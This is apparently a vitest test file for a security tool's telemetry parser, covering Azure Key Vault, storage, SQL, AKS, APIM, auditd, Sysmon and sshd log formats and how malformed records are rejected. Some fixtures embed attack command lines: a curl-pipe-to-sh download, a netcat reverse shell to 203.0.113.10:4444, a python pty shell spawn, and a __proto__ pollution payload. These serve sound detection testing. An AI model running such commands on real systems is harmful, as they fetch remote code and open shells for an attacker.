/**
 * Malformed and unusual telemetry: coded rejections with file, line and JSON path that never stop the stream, the
 * other shapes each source comes in, the directory layout and the push API.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PalisadeError } from '../../src/core/index.js';
import {
  TelemetryParser,
  fileNameForResourceId,
  formatRejected,
  parseRecord,
  readTelemetry,
  type TelemetryReadOptions,
} from '../../src/protection/telemetry/index.js';

const SUB = '6f1c2d3e-4a5b-4c6d-8e9f-0a1b2c3d4e5f';
const RG = `/subscriptions/${SUB}/resourceGroups/rg-app`;
const VM = `${RG}/providers/Microsoft.Compute/virtualMachines/vm-web-01`;
const VM2 = `${RG}/providers/Microsoft.Compute/virtualMachines/vm-web-02`;
const KV = `${RG}/providers/Microsoft.KeyVault/vaults/kv-app`;
const STORAGE = `${RG}/providers/Microsoft.Storage/storageAccounts/stapp01`;
const AKS = `${RG}/providers/Microsoft.ContainerService/managedClusters/aks-app`;
const APIM = `${RG}/providers/Microsoft.ApiManagement/service/apim-app`;

let root: string;
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'palisade-telemetry-'));
});
afterAll(async () => {
  if (root) await rm(root, { recursive: true, force: true });
});

async function file(name: string, text: string): Promise<string> {
  const path = join(root, name);
  await mkdir(join(path, '..'), { recursive: true });
  await writeFile(path, text, 'utf8');
  return path;
}

async function read(path: string, options: TelemetryReadOptions = {}) {
  const stream = readTelemetry(path, options);
  const events = await stream.toArray();
  return { events, stats: stream.stats, rejected: stream.rejected };
}

function kvRecord(time: string, operation = 'SecretGet', extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    time,
    resourceId: KV,
    operationName: operation,
    category: 'AuditEvent',
    resultType: 'Success',
    callerIpAddress: '10.1.2.3',
    identity: { claim: { appid: '11111111-0000-4000-8000-000000000001' } },
    properties: { requestUri: `https://kv-app.vault.azure.net/secrets/app-key?api-version=7.4`, httpStatusCode: 200 },
    ...extra,
  };
}

describe('malformed input is rejected with a code and a location, and the stream goes on', () => {
  it('JSON Lines: bad JSON on line 3, a non-object on line 4, an unknown record on line 5', async () => {
    const lines = [
      JSON.stringify(kvRecord('2026-08-31T10:00:00Z')),
      JSON.stringify(kvRecord('2026-08-31T10:00:01Z')),
      '{"time": "2026-08-31T10:00:02Z", "operationName": ',
      '[1]',
      JSON.stringify({ hello: 'world' }),
      JSON.stringify(kvRecord('2026-08-31T10:00:05Z')),
    ];
    const path = await file('kv.jsonl', lines.join('\n') + '\n');
    const { events, stats, rejected } = await read(path);
    expect(events.map((e) => e.time)).toEqual([Date.parse('2026-08-31T10:00:00Z'), Date.parse('2026-08-31T10:00:01Z'), Date.parse('2026-08-31T10:00:05Z')]);
    expect(stats).toMatchObject({ records: 6, events: 3, rejected: 3 });
    expect(rejected.map((r) => [r.code, r.origin])).toEqual([
      ['TelemetryJsonSyntax', { file: path, line: 3, path: '$' }],
      ['TelemetryInvalidRecord', { file: path, line: 4, path: '$[0]' }],
      ['TelemetryUnknownFormat', { file: path, line: 5, path: '$' }],
    ]);
    expect(formatRejected(rejected[0])).toMatch(new RegExp(`^${path}:3: \\$: \\(TelemetryJsonSyntax\\) invalid JSON`));
  });

  it('JSON Lines whose first line is bad is still read line by line; a one-record envelope over three lines is a document', async () => {
    const jsonl = await file('bad-first.jsonl', ['{"time": tru, "x": 1}', JSON.stringify(kvRecord('2026-08-31T10:00:01Z'))].join('\n'));
    const r1 = await read(jsonl);
    expect(r1.events).toHaveLength(1);
    expect(r1.rejected.map((r) => [r.code, r.origin.line])).toEqual([['TelemetryJsonSyntax', 1]]);
    const envelope = await file('one-record.json', `{"records":[\n${JSON.stringify(kvRecord('2026-08-31T10:00:01Z'))}\n]}\n`);
    const r2 = await read(envelope);
    expect(r2.rejected).toEqual([]);
    expect(r2.events[0].origin).toEqual({ file: envelope, line: 2, path: '$.records[0]' });
  });

  it('an envelope with records of the wrong shape: each rejected at its JSON path', async () => {
    const records = [
      kvRecord('2026-08-31T10:00:00Z'),
      kvRecord('2026-08-31T10:00:01Z', 'SecretGet', { identity: 'nobody' }),
      42,
      kvRecord('2026-08-31T10:00:03Z', 'SecretGet', { time: 'yesterday' }),
      kvRecord('2026-08-31T10:00:04Z', 'SecretGet', { resourceId: '/subscriptions/x/resourceGroups/rg' }),
      { ...kvRecord('2026-08-31T10:00:05Z'), operationName: 17 },
      { ...kvRecord('2026-08-31T10:00:06Z'), resourceId: undefined },
      kvRecord('2026-08-31T10:00:07Z', 'VaultGet'),
    ];
    const path = await file('kv-envelope.json', JSON.stringify({ records }, null, 1));
    const { events, rejected } = await read(path);
    expect(events.map((e) => e.operation)).toEqual(['SecretGet', 'VaultGet']);
    expect(rejected.map((r) => [r.code, r.origin.path])).toEqual([
      ['TelemetryInvalidRecord', '$.records[1].identity'],
      ['TelemetryInvalidRecord', '$.records[2]'],
      ['TelemetryInvalidTime', '$.records[3].time'],
      ['TelemetryInvalidResourceId', '$.records[4].resourceId'],
      ['TelemetryInvalidRecord', '$.records[5].operationName'],
      ['TelemetryNoResourceId', '$.records[6]'],
    ]);
    // lines point at each record's opening brace in the pretty-printed document
    expect(rejected[0].origin.line).toBeGreaterThan(2);
    expect(new Set(rejected.map((r) => r.origin.line)).size).toBe(6);
  });

  it('a bad record in the middle of a pretty-printed document does not stop the records after it', async () => {
    const good = JSON.stringify(kvRecord('2026-08-31T10:00:00Z'));
    const text = `{\n "_note": "x",\n "records": [\n  ${good},\n  {"time": tru},\n  ${good.replace('10:00:00', '10:00:09')}\n ]\n}\n`;
    const path = await file('bad-middle.json', text);
    const { events, rejected } = await read(path);
    expect(events).toHaveLength(2);
    expect(rejected).toEqual([
      { code: 'TelemetryJsonSyntax', message: expect.stringMatching(/^invalid JSON/), origin: { file: path, line: 5, path: '$.records[1]' } },
    ]);
  });

  it('a truncated envelope keeps the records read and reports the truncation with its line', async () => {
    const good = JSON.stringify(kvRecord('2026-08-31T10:00:00Z'));
    const path = await file('truncated.json', `{"records": [\n${good},\n${good},\n{"time": "2026-08-31T`);
    const { events, rejected } = await read(path);
    expect(events).toHaveLength(2);
    expect(rejected).toEqual([{ code: 'TelemetryJsonSyntax', message: 'unexpected end of file (truncated JSON)', origin: { file: path, line: 4 } }]);
  });

  it('text that is no known format: every line TelemetryUnknownFormat; an explicit format that does not fit too', async () => {
    const path = await file('random.txt', 'hello world\nthis is not a log\n');
    const { events, rejected } = await read(path);
    expect(events).toEqual([]);
    expect(rejected.map((r) => [r.code, r.origin.line])).toEqual([
      ['TelemetryUnknownFormat', 1],
      ['TelemetryUnknownFormat', 2],
    ]);
    const kv = await file('kv-as-storage.jsonl', JSON.stringify(kvRecord('2026-08-31T10:00:00Z')) + '\n');
    const mismatch = await read(kv, { format: 'storageBlob' });
    expect(mismatch.rejected).toEqual([{ code: 'TelemetryUnknownFormat', message: 'this is a keyVault record, not storageBlob', origin: { file: kv, line: 1, path: '$' } }]);
  });

  it('lines and records over maxRecordBytes are rejected without being held; the next ones are read', async () => {
    const big = JSON.stringify(kvRecord('2026-08-31T10:00:01Z', 'SecretGet', { padding: 'x'.repeat(5_000) }));
    const path = await file('big-line.jsonl', [JSON.stringify(kvRecord('2026-08-31T10:00:00Z')), big, JSON.stringify(kvRecord('2026-08-31T10:00:02Z'))].join('\n'));
    const { events, rejected } = await read(path, { maxRecordBytes: 2_000 });
    expect(events).toHaveLength(2);
    expect(rejected).toEqual([{ code: 'TelemetryRecordTooLarge', message: `record of ${big.length} characters is over the limit of 2000`, origin: { file: path, line: 2 } }]);
    const doc = await file('big-record.json', JSON.stringify({ records: [kvRecord('2026-08-31T10:00:00Z'), JSON.parse(big), kvRecord('2026-08-31T10:00:02Z')] }));
    const r2 = await read(doc, { maxRecordBytes: 2_000 });
    expect(r2.events).toHaveLength(2);
    expect(r2.rejected.map((r) => [r.code, r.origin.path])).toEqual([['TelemetryRecordTooLarge', '$.records[1]']]);
  });

  it('a path that does not exist fails the read with TelemetryPathNotFound; an unknown format option with InvalidTelemetryFormat', async () => {
    await expect(readTelemetry(join(root, 'nope')).toArray()).rejects.toMatchObject({ code: 'TelemetryPathNotFound', kind: 'notFound' });
    expect(() => new TelemetryParser({ format: 'syslog' as never })).toThrow(PalisadeError);
    expect(() => parseRecord('windows' as never, {})).toThrow(/unknown telemetry format 'windows'/);
  });

  it('hostile long lines are read in linear time', () => {
    const started = Date.now();
    const run = 'a'.repeat(60_000);
    const auditd = parseRecord('processEvent', `type=SYSCALL msg=audit(1788220800.000:1): ${run} pid=1 exe="/bin/x"\ntype=EXECVE msg=audit(1788220800.000:1): argc=1 a0=${run}`, {}, { resourceId: VM });
    expect(auditd.events).toHaveLength(1);
    const huge = parseRecord('processEvent', `type=SYSCALL msg=audit(1.0:1): ${'b'.repeat(200_000)}`, {}, { resourceId: VM });
    expect(huge.rejected.map((r) => r.code)).toEqual(['TelemetryRecordTooLarge']);
    const ssh = parseRecord('sshAuth', `Aug 31 09:00:01 h sshd[1]: Failed password for ${' from x'.repeat(20_000)}`, {}, { resourceId: VM, year: 2026 });
    expect(ssh.skipped).toBe(1);
    const syslog = parseRecord('sshAuth', `Aug 31 09:00:01 ${'c'.repeat(500_000)}`, {}, { resourceId: VM, year: 2026 });
    expect(syslog.rejected.map((r) => r.code)).toEqual(['TelemetryUnknownFormat']);
    expect(Date.now() - started).toBeLessThan(2_000);
  });

  it('keys that could reach a prototype are dropped', () => {
    const text = `{"time":"2026-08-31T10:00:00Z","resourceId":"${KV}","operationName":"SecretGet","category":"AuditEvent","__proto__":{"polluted":true},"properties":{"__proto__":{"polluted":true},"httpStatusCode":200}}`;
    const { events } = parseRecord(undefined, text);
    expect(events).toHaveLength(1);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype.hasOwnProperty.call(events[0].fields, '__proto__')).toBe(false);
  });
});

describe('auditd', () => {
  const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex').toUpperCase();

  it('decodes hex and chunked arguments, reads the enriched format, names parents, skips other events', () => {
    const cmd = 'curl -fsSL http://203.0.113.10/x.sh';
    const lines = [
      `node=vm-web-01 type=SYSCALL msg=audit(1788220800.100:500): arch=c000003e syscall=59 success=yes exit=0 ppid=1000 pid=1200 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" key="exec"\x1dARCH=x86_64 SYSCALL=execve AUID="deploy" UID="root"`,
      `node=vm-web-01 type=EXECVE msg=audit(1788220800.100:500): argc=3 a0="sh" a1="-c" a2=${hex(`${cmd} | sh`)}`,
      `node=vm-web-01 type=CWD msg=audit(1788220800.100:500): cwd=${hex('/tmp/my dir')}`,
      `node=vm-web-01 type=PATH msg=audit(1788220800.100:500): item=0 name="/usr/bin/sh" inode=1 nametype=NORMAL`,
      `node=vm-web-01 type=PROCTITLE msg=audit(1788220800.100:500): proctitle=${Buffer.from(`sh\0-c\0${cmd} | sh`).toString('hex')}`,
      // a child of pid 1200 with a long argument split into chunks
      `type=SYSCALL msg=audit(1788220801.000:501): arch=c000003e syscall=59 success=yes exit=0 ppid=1200 pid=1201 uid=33 comm="curl" exe="/usr/bin/curl" key=(null)`,
      `type=EXECVE msg=audit(1788220801.000:501): argc=3 a0="curl" a1="-fsSL" a2_len=20 a2[0]=${hex('http://203.0')} a2[1]=${hex('.113.10/x.sh')}`,
      `type=EOE msg=audit(1788220801.000:501):`,
      // not an exec: skipped
      `type=USER_LOGIN msg=audit(1788220802.000:502): pid=900 uid=0 auid=1000 ses=4 msg='op=login id=1000 exe="/usr/sbin/sshd" hostname=? addr=10.0.0.9 terminal=sshd res=success'`,
      `type=SYSCALL msg=audit(1788220803.000:503): arch=c000003e syscall=2 success=no exit=-13 pid=901 uid=33 comm="cat" exe="/usr/bin/cat"`,
    ];
    const result = parseRecord('processEvent', lines.join('\n'), {}, { resourceId: VM });
    expect(result.rejected).toEqual([]);
    expect(result.skipped).toBe(2);
    const [sh, curl] = result.events;
    expect(sh).toMatchObject({ time: 1788220800100, principal: 'root', outcome: 'success', origin: { line: 1 } });
    expect(sh.fields).toMatchObject({
      Image: '/usr/bin/dash',
      CommandLine: `sh -c ${cmd} | sh`,
      a2: `${cmd} | sh`,
      CurrentDirectory: '/tmp/my dir',
      proctitle: `sh -c ${cmd} | sh`,
      User: 'root',
      UID: '"root"'.slice(1, -1),
      AUID: 'deploy',
      SYSCALL: 'execve',
      Computer: 'vm-web-01',
      ProcessId: 1200,
    });
    expect(curl).toMatchObject({ principal: '33', origin: { line: 6 } });
    expect(curl.fields).toMatchObject({ a2: 'http://203.0.113.10/x.sh', CommandLine: 'curl -fsSL http://203.0.113.10/x.sh', ParentImage: '/usr/bin/dash', ParentCommandLine: `sh -c ${cmd} | sh`, key: '(null)' });
  });

  it('an EXECVE without its SYSCALL is TelemetryIncompleteEvent; a non-auditd line in a process log is TelemetryUnknownFormat', () => {
    const result = parseRecord('processEvent', ['type=EXECVE msg=audit(1788220800.000:9): argc=1 a0="ls"', 'garbage line'].join('\n'), { file: 'x.log' }, { resourceId: VM });
    expect(result.events).toEqual([]);
    expect(result.rejected.map((r) => [r.code, r.origin])).toEqual([
      ['TelemetryUnknownFormat', { file: 'x.log', line: 2 }],
      ['TelemetryIncompleteEvent', { file: 'x.log', line: 1 }],
    ]);
  });

  it('interleaved events are grouped by serial; a parser keeps groups open across pushes', () => {
    const parser = new TelemetryParser({ resourceId: VM });
    const out = [
      parser.pushLine('type=SYSCALL msg=audit(1788220800.000:10): syscall=59 success=yes pid=10 ppid=1 uid=0 exe="/usr/bin/a"'),
      parser.pushLine('type=SYSCALL msg=audit(1788220800.001:11): syscall=59 success=yes pid=11 ppid=1 uid=0 exe="/usr/bin/b"'),
      parser.pushLine('type=EXECVE msg=audit(1788220800.000:10): argc=1 a0="a"'),
      parser.pushLine('type=EXECVE msg=audit(1788220800.001:11): argc=1 a0="b"'),
    ];
    expect(out.flatMap((r) => r.events)).toEqual([]);
    const end = parser.end();
    expect(end.events.map((e) => [e.fields.Image, e.fields.CommandLine, e.time])).toEqual([
      ['/usr/bin/a', 'a', 1788220800000],
      ['/usr/bin/b', 'b', 1788220800001],
    ]);
  });
});

describe('other shapes of each source', () => {
  it('StorageBlobLogs rows, AzureDiagnostics Key Vault rows, AZKVAuditLogs rows', () => {
    const storage = parseRecord(undefined, {
      TimeGenerated: '2026-08-31T09:00:00.1234567Z',
      _ResourceId: `${STORAGE}/blobServices/default`,
      Category: 'StorageWrite',
      OperationName: 'PutBlob',
      StatusCode: '201',
      CallerIpAddress: '[2001:db8::5]:443',
      AuthenticationType: 'OAuth',
      RequesterUpn: 'ann@contoso.com',
      ObjectKey: '/stapp01/c1/a/b.txt',
      Type: 'StorageBlobLogs',
    });
    expect(storage.rejected).toEqual([]);
    expect(storage.events[0]).toMatchObject({ resourceId: STORAGE, time: Date.parse('2026-08-31T09:00:00.123Z'), callerIp: '2001:db8::5', principal: 'ann@contoso.com', outcome: 'success' });
    expect(storage.events[0].fields).toMatchObject({ StatusCode: 201, ContainerName: 'c1', BlobName: 'a/b.txt' });

    const diag = parseRecord(undefined, {
      TimeGenerated: '2026-08-31T09:00:00Z',
      ResourceId: KV.toUpperCase(),
      ResourceProvider: 'MICROSOFT.KEYVAULT',
      Category: 'AuditEvent',
      OperationName: 'KeyGet',
      CallerIPAddress: '10.0.0.1',
      ResultSignature: 'Unauthorized',
      requestUri_s: 'https://kv-app.vault.azure.net/keys/k1/abc?api-version=7.4',
      identity_claim_appid_g: 'app-1',
      identity_claim_http_schemas_xmlsoap_org_ws_2005_05_identity_claims_upn_s: 'bob@contoso.com',
      isAccessPolicyMatch_b: false,
    });
    expect(diag.rejected).toEqual([]);
    expect(diag.events[0]).toMatchObject({ source: 'keyVault', operation: 'KeyGet', outcome: 'failure', callerIp: '10.0.0.1', principal: 'bob@contoso.com', subscriptionId: SUB });
    expect(diag.events[0].fields).toMatchObject({ RequestUri: 'https://kv-app.vault.azure.net/keys/k1/abc?api-version=7.4', IdentityAppId: 'app-1', IsAccessPolicyMatch: false, ObjectType: 'keys', ObjectName: 'k1', CallerIpAddress: '10.0.0.1' });

    const azkv = parseRecord(undefined, {
      Type: 'AZKVAuditLogs',
      TimeGenerated: '2026-08-31T09:00:00Z',
      _ResourceId: KV,
      OperationName: 'SecretList',
      ResultType: 'Success',
      HttpStatusCode: 200,
      CallerIpAddress: '10.0.0.2',
      Identity: { claim: { oid: 'oid-1' } },
    });
    expect(azkv.events[0]).toMatchObject({ principal: 'oid-1', outcome: 'success' });
  });

  it('SQL audit resource-log records and SQLSecurityAuditEvents rows; a resource id built from AzureDiagnostics columns', () => {
    const envelope = parseRecord(undefined, {
      records: [
        {
          time: '2026-08-31T09:00:00Z',
          resourceId: `${RG}/providers/Microsoft.Sql/servers/sql-app/databases/orders`,
          category: 'SQLSecurityAuditEvents',
          operationName: 'AuditEvent',
          properties: { action_id: 'LGIF', succeeded: 'false', client_ip: '198.51.100.9', server_principal_name: 'sa', additional_information: '<error_code>18456</error_code>' },
        },
      ],
    });
    expect(envelope.rejected).toEqual([]);
    expect(envelope.events[0]).toMatchObject({ operation: 'LOGIN_FAILED', outcome: 'failure', callerIp: '198.51.100.9', principal: 'sa', origin: { path: '$.records[0]' } });
    expect(envelope.events[0].fields.error_code).toBe(18456);

    const table = parseRecord(undefined, { Type: 'SQLSecurityAuditEvents', TimeGenerated: '2026-08-31T09:00:00Z', _ResourceId: `${RG}/providers/Microsoft.Sql/servers/sql-app/databases/orders`, ActionId: 'DBAS', Succeeded: true, ClientIp: '10.0.0.5', ServerPrincipalName: 'app' });
    expect(table.events[0]).toMatchObject({ operation: 'DATABASE_AUTHENTICATION_SUCCEEDED', outcome: 'success', principal: 'app' });
    expect(table.events[0].fields).toMatchObject({ action_id: 'DBAS', client_ip: '10.0.0.5' });

    const built = parseRecord(undefined, { Category: 'SQLSecurityAuditEvents', TimeGenerated: '2026-08-31T09:00:00Z', SubscriptionId: SUB, ResourceGroup: 'rg-app', LogicalServerName_s: 'sql-app', database_name_s: 'orders', action_id_s: 'BCM', succeeded_s: 'true' });
    expect(built.events[0].resourceId).toBe(`${RG}/providers/Microsoft.Sql/servers/sql-app/databases/orders`);
  });

  it('AKS kube-audit as AzureDiagnostics rows and resource-log records; a Kubernetes EventList', () => {
    const event = { kind: 'Event', apiVersion: 'audit.k8s.io/v1', auditID: 'a1', stage: 'ResponseComplete', verb: 'delete', requestReceivedTimestamp: '2026-08-31T09:00:00.000000Z', user: { username: 'u1' }, objectRef: { resource: 'events', namespace: 'default' }, responseStatus: { code: 200 }, sourceIPs: ['10.0.0.7'] };
    const diag = parseRecord(undefined, { Category: 'kube-audit', ResourceId: AKS, log_s: JSON.stringify(event), TimeGenerated: '2026-08-31T09:00:01Z' });
    expect(diag.rejected).toEqual([]);
    expect(diag.events[0]).toMatchObject({ source: 'kubernetesAudit', resourceId: AKS, operation: 'delete', callerIp: '10.0.0.7', principal: 'u1', time: Date.parse('2026-08-31T09:00:00Z') });
    const envelope = parseRecord(undefined, { records: [{ time: '2026-08-31T09:00:01Z', resourceId: AKS, category: 'kube-audit-admin', properties: { log: JSON.stringify(event), pod: 'kube-apiserver-x' } }] });
    expect(envelope.events[0]).toMatchObject({ resourceId: AKS, fields: { 'objectRef.resource': 'events' } });
    const badInner = parseRecord(undefined, { Category: 'kube-audit', ResourceId: AKS, log_s: '{"kind":' });
    expect(badInner.rejected.map((r) => [r.code, r.origin.path])).toEqual([['TelemetryJsonSyntax', '$.log_s']]);
    const list = parseRecord(undefined, { kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [event, event] }, {}, { resourceId: AKS });
    expect(list.events.map((e) => e.origin.path)).toEqual(['$.items[0]', '$.items[1]']);
  });

  it('APIM resource-log records; query parameters', () => {
    const r = parseRecord(undefined, {
      time: '2026-08-31T09:00:00Z',
      resourceId: APIM,
      category: 'GatewayLogs',
      operationName: 'Microsoft.ApiManagement/GatewayLogs',
      callerIpAddress: '203.0.113.5',
      durationMs: 12,
      properties: { method: 'get', url: 'https://apim-app.azure-api.net/orders/v1/orders?id=7&id=8&sort=asc', responseCode: 404, apiId: 'orders', requestHeaders: { 'user-agent': 'sqlmap/1.7' } },
    });
    expect(r.rejected).toEqual([]);
    expect(r.events[0]).toMatchObject({ operation: 'GET', outcome: 'failure', callerIp: '203.0.113.5', userAgent: 'sqlmap/1.7' });
    expect(r.events[0].fields).toMatchObject({ TotalTime: 12, ResponseCode: 404, ApiId: 'orders', UrlPath: '/orders/v1/orders', UrlQuery: 'id=7&id=8&sort=asc', QueryParameters: ['id', 'sort'] });
  });

  it('Sysmon for Linux XML in syslog, Defender for Endpoint rows; other Sysmon events unsupported', () => {
    const xml =
      'Aug 31 09:00:00 vm-web-01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><TimeCreated SystemTime="2026-08-31T09:00:00.123456000Z"/><Computer>vm-web-01</Computer></System><EventData><Data Name="UtcTime">2026-08-31 09:00:00.123</Data><Data Name="ProcessId">4242</Data><Data Name="Image">/usr/bin/python3</Data><Data Name="CommandLine">python3 -c &quot;import pty;pty.spawn(&apos;/bin/bash&apos;)&quot; &amp;&amp; echo &lt;x&gt;</Data><Data Name="User">www-data</Data><Data Name="ParentImage">/usr/sbin/nginx</Data></EventData></Event>';
    const r = parseRecord(undefined, xml, {}, { resourceId: VM });
    expect(r.rejected).toEqual([]);
    expect(r.events[0]).toMatchObject({ source: 'processEvent', operation: 'execve', principal: 'www-data', time: Date.parse('2026-08-31T09:00:00.123Z') });
    expect(r.events[0].fields).toMatchObject({ EventID: 1, ProcessId: 4242, Image: '/usr/bin/python3', CommandLine: `python3 -c "import pty;pty.spawn('/bin/bash')" && echo <x>`, ParentImage: '/usr/sbin/nginx', Computer: 'vm-web-01' });

    const mde = parseRecord(undefined, { Timestamp: '2026-08-31T09:00:00Z', DeviceName: 'vm-web-01', ActionType: 'ProcessCreated', FolderPath: '/usr/bin/nc', ProcessCommandLine: 'nc -e /bin/sh 203.0.113.10 4444', AccountName: 'www-data', InitiatingProcessFolderPath: '/usr/bin/bash', ProcessId: 77 }, {}, { resourceId: VM });
    expect(mde.events[0].fields).toMatchObject({ Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 203.0.113.10 4444', User: 'www-data', ParentImage: '/usr/bin/bash', Computer: 'vm-web-01' });

    const net = parseRecord(undefined, { EventID: 3, UtcTime: '2026-08-31 09:00:00.000', Image: '/usr/bin/curl' }, {}, { resourceId: VM });
    expect(net.rejected.map((r) => [r.code, r.origin.path])).toEqual([['TelemetryUnsupportedRecord', '$.EventID']]);
  });

  it('sshd lines: failed, accepted, invalid user, repeated messages; other lines skipped; year-less timestamps', () => {
    const lines = [
      'Aug 31 09:00:01 vm-web-01 sshd[1234]: Failed password for invalid user admin from 203.0.113.7 port 50022 ssh2',
      'Aug 31 09:00:02 vm-web-01 sshd[1234]: Failed password for root from 203.0.113.7 port 50023 ssh2',
      'Aug 31 09:00:03 vm-web-01 sshd[1234]: message repeated 3 times: [ Failed password for root from 203.0.113.7 port 50023 ssh2]',
      'Aug 31 09:00:04 vm-web-01 sshd[1235]: Invalid user oracle from 203.0.113.7 port 50030',
      '2026-08-31T09:00:05.250+00:00 vm-web-01 sshd-session[1236]: Accepted publickey for deploy from 10.0.0.4 port 50100 ssh2: ED25519 SHA256:AbCdEf0123',
      'Aug 31 09:00:06 vm-web-01 CRON[99]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
      'Aug 31 09:00:07 vm-web-01 sshd[1236]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)',
    ];
    const r = parseRecord('sshAuth', lines.join('\n'), { file: 'auth.log' }, { resourceId: VM, referenceTime: Date.parse('2026-09-01T00:00:00Z') });
    expect(r.rejected).toEqual([]);
    expect(r.skipped).toBe(2);
    expect(r.events.map((e) => [e.operation, e.outcome, e.principal, e.callerIp, e.origin.line])).toEqual([
      ['sshd.failed', 'failure', 'admin', '203.0.113.7', 1],
      ['sshd.failed', 'failure', 'root', '203.0.113.7', 2],
      ['sshd.failed', 'failure', 'root', '203.0.113.7', 3],
      ['sshd.failed', 'failure', 'root', '203.0.113.7', 3],
      ['sshd.failed', 'failure', 'root', '203.0.113.7', 3],
      ['sshd.invalidUser', 'failure', 'oracle', '203.0.113.7', 4],
      ['sshd.accepted', 'success', 'deploy', '10.0.0.4', 5],
    ]);
    expect(r.events[0].time).toBe(Date.parse('2026-08-31T09:00:01Z'));
    expect(r.events[0].fields).toMatchObject({ Host: 'vm-web-01', Program: 'sshd', Pid: 1234, Method: 'password', User: 'admin', InvalidUser: true, SourceIp: '203.0.113.7', SourcePort: 50022 });
    expect(r.events[6]).toMatchObject({ time: Date.parse('2026-08-31T09:00:05.250Z') });
    expect(r.events[6].fields).toMatchObject({ Program: 'sshd-session', Method: 'publickey', KeyType: 'ED25519', KeyFingerprint: 'SHA256:AbCdEf0123' });
    // A December line read in January belongs to the year before.
    const dec = parseRecord('sshAuth', 'Dec 31 23:59:59 h sshd[1]: Invalid user x from 192.0.2.1', {}, { resourceId: VM, referenceTime: Date.parse('2027-01-01T00:10:00Z') });
    expect(dec.events[0].time).toBe(Date.parse('2026-12-31T23:59:59Z'));
    expect(parseRecord('sshAuth', 'Dec 31 23:59:59 h sshd[1]: Invalid user x from 192.0.2.1', {}, { resourceId: VM, year: 2020 }).events[0].time).toBe(Date.parse('2020-12-31T23:59:59Z'));
  });
});

describe('directories: layout, resource mapping and the merge by time', () => {
  it('maps host files through index.json and URL-encoded names, merges all files by time, ignores labels and READMEs', async () => {
    const dir = join(root, 'layout', 'telemetry');
    await file('layout/telemetry/index.json', JSON.stringify({ resources: { 'sshAuth/vm-web-01': VM, 'proc-02': VM2 } }));
    await file('layout/telemetry/labels.json', '{"attacks": []}');
    await file('layout/telemetry/README.md', '# not telemetry');
    await file('layout/telemetry/sshAuth/vm-web-01.log', ['2026-08-31T09:00:01Z vm-web-01 sshd[1]: Failed password for root from 203.0.113.7 port 1 ssh2', '2026-08-31T09:00:05Z vm-web-01 sshd[1]: Accepted password for root from 203.0.113.7 port 2 ssh2'].join('\n'));
    await file('layout/telemetry/processEvent/proc-02.jsonl', JSON.stringify({ UtcTime: '2026-08-31 09:00:03.000', Image: '/usr/bin/id', CommandLine: 'id' }) + '\n');
    await file(`layout/telemetry/kubernetesAudit/${fileNameForResourceId(AKS, '.jsonl')}`, JSON.stringify({ kind: 'Event', apiVersion: 'audit.k8s.io/v1', verb: 'get', requestReceivedTimestamp: '2026-08-31T09:00:02Z', user: { username: 'u' } }) + '\n');
    await file('layout/telemetry/keyVault/kv.json', JSON.stringify({ records: [kvRecord('2026-08-31T09:00:04Z'), kvRecord('2026-08-31T09:00:00Z')] }));
    const { events, stats, rejected } = await read(dir);
    expect(rejected).toEqual([]);
    expect(stats.files).toBe(4);
    // Merged by time; within a file the file's order is kept (kv.json holds 09:00:04 before 09:00:00).
    expect(events.map((e) => [e.source, e.resourceId, new Date(e.time).toISOString().slice(11, 19)])).toEqual([
      ['sshAuth', VM, '09:00:01'],
      ['kubernetesAudit', AKS, '09:00:02'],
      ['processEvent', VM2, '09:00:03'],
      ['keyVault', KV, '09:00:04'],
      ['keyVault', KV, '09:00:00'],
      ['sshAuth', VM, '09:00:05'],
    ]);
    const times = events.map((e) => new Date(e.time).toISOString().slice(11, 19));
    expect(times).toEqual(['09:00:01', '09:00:02', '09:00:03', '09:00:04', '09:00:00', '09:00:05']);
    expect(stats.eventsBySource).toEqual({ keyVault: 2, sshAuth: 2, kubernetesAudit: 1, processEvent: 1 });
  });

  it('a file of a source folder read on its own takes its source from the folder; the option resource fills the rest', async () => {
    const path = await file('single/sshAuth/auth.log.1', 'Aug 31 09:00:01 h sshd[1]: Invalid user x from 192.0.2.1\n');
    const { events } = await read(path, { resourceId: VM, year: 2026 });
    expect(events.map((e) => [e.source, e.resourceId])).toEqual([['sshAuth', VM]]);
  });

  it('a broken index.json fails the whole read with TelemetryIndexInvalid and its location', async () => {
    await file('badindex/index.json', JSON.stringify({ resources: { a: 42 } }));
    await file('badindex/sshAuth/a.log', '');
    await expect(readTelemetry(join(root, 'badindex')).toArray()).rejects.toMatchObject({ code: 'TelemetryIndexInvalid', location: { path: '$.resources["a"]' } });
  });
});

describe('large inputs stream', () => {
  it('a one-line envelope bigger than maxRecordBytes is read record by record; a big JSON Lines file line by line', async () => {
    const records = Array.from({ length: 6_000 }, (_, i) => kvRecord(new Date(Date.parse('2026-08-31T00:00:00Z') + i * 1000).toISOString()));
    const text = JSON.stringify({ records });
    expect(text.length).toBeGreaterThan(2_000_000);
    const path = await file('big-envelope.json', text);
    const started = Date.now();
    const { events, rejected, stats } = await read(path, { maxRecordBytes: 64 * 1024 });
    expect(rejected).toEqual([]);
    expect(stats.events).toBe(6_000);
    expect(events[5_999].origin).toEqual({ file: path, line: 1, path: '$.records[5999]' });
    const jsonl = await file('big.jsonl', records.map((r) => JSON.stringify(r)).join('\n'));
    const r2 = await read(jsonl, { maxRecordBytes: 64 * 1024 });
    expect(r2.stats.events).toBe(6_000);
    expect(r2.events[5_999].origin).toEqual({ file: jsonl, line: 6_000, path: '$' });
    expect(Date.now() - started).toBeLessThan(10_000);
  });
});
